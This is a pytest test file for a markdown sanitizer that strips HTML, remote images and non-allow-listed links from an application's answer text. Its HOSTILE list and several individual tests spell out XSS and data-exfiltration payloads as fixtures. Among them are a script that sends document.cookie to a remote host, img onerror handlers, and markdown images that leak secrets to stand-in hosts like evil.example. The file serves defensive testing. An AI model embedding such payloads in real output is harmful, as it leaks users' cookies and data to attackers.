"""SECURITY.md row 11: answer text renders as inert markdown (no HTML, no remote images/links)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.ui.sanitize import is_inert, link_allowed, sanitize_markdown

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>fetch('https://x/?c='+document.cookie)</script>",
    "![](https://x/?q=SECRET)",
    '![logo](https://evil.example/p.png "title")',
    "![a][r]\n\n[r]: https://x/y.png?q=1",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[c](<javascript:alert(1)>)",
    "[c](&#106;avascript:alert(1))",
    "[c](data:text/html;base64,PHNjcmlwdD4=)",
    "[phish](https://sec.gov.evil.com/login)",
    "[phish](https://www.sec.gov@evil.com/)",
    "<https://evil.example/?q=1>",
    "see https://evil.example/?q=secret now",
    "visit www.evil.example today",
    "<iframe src=https://x></iframe>",
    "<!-- hidden --><a href=https://x>x</a>",
    "[x](https://a/(b)) and ![y](https://a/(c))",
    "[[nested](https://x)](https://y)",
    "[ref link][1]\n\n[1]: https://evil.example/",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_answers_become_inert(text: str) -> None:
    safe = sanitize_markdown(text)
    assert safe.inert, safe.text
    assert is_inert(safe.text)
    assert "evil.example/" not in safe.text.replace("(link removed)", "")
    assert "<" not in safe.text.replace("&lt;", "")
    assert "](javascript" not in safe.text.lower()


def test_img_onerror_is_escaped_not_rendered() -> None:
    safe = sanitize_markdown("Revenue rose <img src=x onerror=alert(1)> strongly")
    assert safe.text == "Revenue rose &lt;img src=x onerror=alert(1)> strongly"
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark", {"html": True}).render(safe.text)
    assert "<img" not in html and "&lt;img" in html


def test_exfiltrating_image_is_removed_with_a_note() -> None:
    safe = sanitize_markdown("Summary ![chart](https://x.example/?q=ACCOUNT-123) done")
    assert safe.text == "Summary [image removed: chart] done"
    assert safe.removed == ("image https://x.example/?q=ACCOUNT-123",)
    assert "ACCOUNT-123" not in safe.text


def test_allow_listed_link_is_kept_and_others_lose_only_the_url() -> None:
    text = "See [the 10-K](https://www.sec.gov/a.htm) and [this](https://evil.example/)."
    safe = sanitize_markdown(text)
    assert safe.text == "See [the 10-K](https://www.sec.gov/a.htm) and this (link removed)."
    assert sanitize_markdown(text, link_hosts=()).text.count("(link removed)") == 2


def test_dollar_amounts_are_not_latex_and_code_is_untouched() -> None:
    safe = sanitize_markdown("Revenue $211.9bn vs $198.3bn; run `SELECT '<x>' AS $a`")
    assert safe.text == r"Revenue \$211.9bn vs \$198.3bn; run `SELECT '<x>' AS $a`"


def test_markdown_structure_survives() -> None:
    text = "**Bold** answer [1]\n\n- item one\n- item two\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    assert sanitize_markdown(text).text == text


def test_invisible_and_bidi_characters_are_stripped() -> None:
    assert sanitize_markdown("a\u202eb\u200bc\U000e0041d").text == "abcd"


@pytest.mark.parametrize(
    "url,ok",
    [
        ("https://www.sec.gov/x", True),
        ("http://sec.gov/x", True),
        ("https://evil.example/", False),
        ("javascript:alert(1)", False),
        ("//www.sec.gov/x", False),
        ("https://www.sec.gov:443@evil/", False),
    ],
)
def test_link_allowed(url: str, ok: bool) -> None:
    assert link_allowed(url) is ok


@given(st.text(alphabet=st.sampled_from(list("![]()<>:/ajvscripthtx.=\"'`$@&#;\n ")), max_size=60))
def test_any_text_sanitizes_to_something_inert_or_is_flagged(text: str) -> None:
    safe = sanitize_markdown(text)
    # Either the markdown is inert, or the caller is told to fall back to plain text.
    assert safe.inert == is_inert(safe.text)
    if safe.inert:
        assert "<" not in safe.text.replace("&lt;", "") or "`" in safe.text


@pytest.mark.parametrize(
    "name",
    [
        "![x](https://x.example/?q=1)",
        "[click](javascript:alert(1))",
        "<img src=x onerror=alert(1)>",
        "see https://x.example/a and www.x.example",
        "$E=mc^2$ `code` *bold* ~strike~ | a | b |",
    ],
)
def test_escaped_labels_render_as_typed(name: str) -> None:
    from markdown_it import MarkdownIt

    from app.ui.sanitize import escape_markdown

    escaped = escape_markdown(name)
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(escaped)
    # GFM autolinks bare URLs; an escaped ":" (and "www\\.") no longer reads as one.
    assert "https://" not in escaped and "www." not in escaped
    assert "<a " not in html and "<img" not in html and "<code>" not in html and "<em>" not in html
    assert "<s>" not in html and "<table>" not in html


def test_escaped_labels_keep_ordinary_names() -> None:
    from app.ui.sanitize import escape_markdown

    assert escape_markdown("MICROSOFT_2023_10K_excerpt") == "MICROSOFT_2023_10K_excerpt"
    assert escape_markdown("renamed.pdf") == "renamed.pdf"
    assert escape_markdown("line one\nline two") == "line one line two"
